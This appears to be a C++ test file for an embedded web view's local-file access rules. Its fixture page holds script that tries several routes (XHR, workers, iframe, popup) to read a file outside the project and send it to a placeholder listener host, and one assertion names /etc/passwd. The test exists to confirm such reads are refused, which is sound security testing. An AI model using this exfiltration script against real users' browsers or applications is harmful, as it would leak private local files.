#include "TestUtil.h"
#include "WebTestFixture.h"

#include "platform/web/cssom/DOMCSSStyleSheet.h"
#include "platform/web/cssom/DOMStyleSheetList.h"
#include "platform/web/dom/DOMDocument.h"
#include "platform/web/engine/WebFileAccess.h"
#include "platform/web/engine/WebFrameMirror.h"
#include "platform/web/engine/WebView.h"

#include <QJsonObject>

#include <gtest/gtest.h>

namespace WebFileAccessTest {

// Every way a page's script could read a local file and send it on: each
// tries the file outside the project and tells the listener what it got
// ("refused" when it got nothing). "inside" reads a file of the project.
const char s_hostilePage[] = R"HTML(<!DOCTYPE html>
<link rel=stylesheet href=site.css>
<button id=b style="position:fixed;left:0;top:0;width:200px;height:200px">open</button>
<script>
const listener = 'LISTENER';
const secret = new URL('../outside/secret.txt', location.href).href;
function report(kind, data) {
    new Image().src = listener + '/report/' + kind + '/' + encodeURIComponent(String(data).trim() || 'refused');
}
const xhrCode = 'function xhr(url, done) { const x = new XMLHttpRequest();'
    + ' x.onload = function () { done(x.status ? x.responseText : "refused"); };'
    + ' x.onerror = function () { done("refused"); };'
    + ' try { x.open("GET", url); x.send(); } catch (e) { done("refused"); } }';
eval(xhrCode);
xhr(secret, function (d) { report('xhr', d); });
xhr(new URL('inside.txt', location.href).href, function (d) { report('inside', d); });

const readInWorker = xhrCode + ' xhr(' + JSON.stringify(secret) + ', function (d) { postMessage(d); });';
const worker = new Worker(URL.createObjectURL(new Blob([readInWorker])));
worker.onmessage = function (e) { report('worker', e.data); };
const nested = new Worker(URL.createObjectURL(new Blob([
    'const w = new Worker(URL.createObjectURL(new Blob([' + JSON.stringify(readInWorker) + '])));'
    + ' w.onmessage = function (e) { postMessage(e.data); };'])));
nested.onmessage = function (e) { report('nested', e.data); };
const shared = new SharedWorker(URL.createObjectURL(new Blob([
    xhrCode + ' onconnect = function (e) { const port = e.ports[0];'
    + ' xhr(' + JSON.stringify(secret) + ', function (d) { port.postMessage(d); }); };'])));
shared.port.onmessage = function (e) { report('shared', e.data); };

const frame = document.createElement('iframe');
frame.onload = function () {
    let text = 'refused';
    try { text = frame.contentDocument.body.textContent; } catch (e) {}
    report('frame', text);
};
frame.src = secret;
document.body.appendChild(frame);

document.getElementById('b').onclick = function () {
    const w = window.open(secret);
    setTimeout(function () {
        let text = 'refused';
        try { text = w.document.body.textContent; } catch (e) {}
        report('popup', text);
    }, 500);
};
</script>)HTML";

} // namespace WebFileAccessTest

using namespace WebFileAccessTest;

// A page of a project reads its own files, and nothing outside: no way its
// script tries brings a byte of a file beside the project to a listener,
// while the rules of its sheets still reach the mirror (#65).
TEST(WebFileAccess, AProjectPageReadsNothingOutsideItsProject)
{
    WebTestFixture fixture(WebTestFixture::sharedView());
    fixture.writeFile(QStringLiteral("outside/secret.txt"), "QUILLMARK-SECRET-42");
    fixture.writeFile(QStringLiteral("project/inside.txt"), "inside-ok");
    fixture.writeFile(QStringLiteral("project/site.css"), "p { color: green; }\n");
    LoopbackHttpServer listener(fixture.folder() + QStringLiteral("/listener"));
    ASSERT_TRUE(listener.start());
    const QString listenerUrl = listener.url(QString()).toString().chopped(1);
    fixture.writeFile(QStringLiteral("project/index.html"),
                      QByteArray(s_hostilePage).replace("LISTENER", listenerUrl.toUtf8()));
    ASSERT_TRUE(fixture.loadPage(QStringLiteral("project/index.html")));
    // A click is what lets a page open a window.
    WebPage *page = fixture.view().webPage();
    for (const char *type : {"mousePressed", "mouseReleased"}) {
        page->sendInput(QStringLiteral("Input.dispatchMouseEvent"),
                        {{QStringLiteral("type"), QLatin1String(type)}, {QStringLiteral("x"), 50}, {QStringLiteral("y"), 50},
                         {QStringLiteral("button"), QStringLiteral("left")}, {QStringLiteral("clickCount"), 1}});
    }
    const QStringList kinds{QStringLiteral("xhr"), QStringLiteral("inside"), QStringLiteral("worker"), QStringLiteral("nested"),
                            QStringLiteral("shared"), QStringLiteral("frame"), QStringLiteral("popup")};
    const auto reported = [&](const QString &kind) {
        for (const QString &path : listener.requestedPaths()) {
            if (path.startsWith(QStringLiteral("report/") + kind + QLatin1Char('/')))
                return path.section(QLatin1Char('/'), 2);
        }
        return QString();
    };
    const bool all = TestUtil::waitUntil([&] {
        return std::all_of(kinds.begin(), kinds.end(), [&](const QString &kind) { return !reported(kind).isEmpty(); });
    }, 15000);
    const QString paths = listener.requestedPaths().join(u'\n');
    EXPECT_TRUE(all) << qPrintable(paths);
    EXPECT_FALSE(paths.contains(QLatin1String("QUILLMARK-SECRET"))) << qPrintable(paths);
    EXPECT_EQ(reported(QStringLiteral("inside")), QStringLiteral("inside-ok"));
    // The page's sheets are read as before.
    DOMStyleSheetList &sheets = fixture.mainFrame().document()->styleSheets();
    ASSERT_TRUE(TestUtil::waitUntil([&] { return sheets.length() == 1; }));
    EXPECT_EQ(sheets.item(0)->cssRules().length(), 1);
    EXPECT_EQ(page->readableFolders().first(), fixture.folder() + QStringLiteral("/project/"));
}

// The next page, in a folder of its own, reads its sheets even when the page
// before is too busy to take the new list of folders at once: the browser
// holds the new list before the new document starts loading.
TEST(WebFileAccess, APageOfAnotherFolderReadsItsSheetsAfterABusyPage)
{
    WebTestFixture fixture(WebTestFixture::sharedView());
    fixture.writeFile(QStringLiteral("busy/index.html"), "<!DOCTYPE html><p>busy</p>");
    ASSERT_TRUE(fixture.loadPage(QStringLiteral("busy/index.html")));
    for (int round = 0; round < 3; ++round) {
        const QString folder = QStringLiteral("next%1/").arg(round);
        fixture.writeFile(folder + QStringLiteral("site.css"), "p { color: green; }\n");
        fixture.writeFile(folder + QStringLiteral("index.html"), "<!DOCTYPE html><link rel=stylesheet href=site.css><p>x</p>");
        // Busy in slices: the page still answers whether it responds, but
        // each message to it waits up to a slice.
        fixture.evaluate(QStringLiteral("(function slice(n) { const t = Date.now(); while (Date.now() - t < 250) {}"
                                        " if (n > 0) setTimeout(function () { slice(n - 1); }, 0); })(12)"));
        ASSERT_TRUE(fixture.loadPage(folder + QStringLiteral("index.html")));
        const QString readable = QStringLiteral(
            "document.readyState !== 'complete' ? 'loading' : Array.from(document.styleSheets).map(function (s) "
            "{ try { return s.cssRules.length; } catch (e) { return e.name; } }).join(',')");
        QString rules;
        TestUtil::waitUntil([&] {
            rules = fixture.evaluate(readable).toString();
            return rules != QLatin1String("loading");
        }, 10000);
        EXPECT_EQ(rules, QStringLiteral("1")) << "round " << round;
    }
}

// The browser's list of what it lets through names each folder as an address
// would, its pattern characters taken literally.
TEST(WebFileAccess, FolderPatternsAreTheAddressesOfTheFolders)
{
    EXPECT_EQ(WebFileAccess::urlPatternOfFolder(QStringLiteral("/home/a b/site")), QStringLiteral("file:///home/a%20b/site/*"));
    EXPECT_EQ(WebFileAccess::urlPatternOfFolder(QStringLiteral("/p/x(1)+:y/")), QStringLiteral("file:///p/x\\(1\\)\\+\\:y/*"));
    WebFileAccess access;
    access.setFolders({QStringLiteral("/home/a b/site")});
    EXPECT_TRUE(access.allows(QUrl(QStringLiteral("file:///home/a%20b/site/css/x.css"))));
    EXPECT_TRUE(access.allows(QUrl(QStringLiteral("https://example.org/x"))));
    EXPECT_FALSE(access.allows(QUrl(QStringLiteral("file:///home/a%20b/site/../secret"))));
    EXPECT_FALSE(access.allows(QUrl(QStringLiteral("file:///home/a%20b/sitemap/x"))));
    EXPECT_FALSE(access.allows(QUrl(QStringLiteral("file:///etc/passwd"))));
}
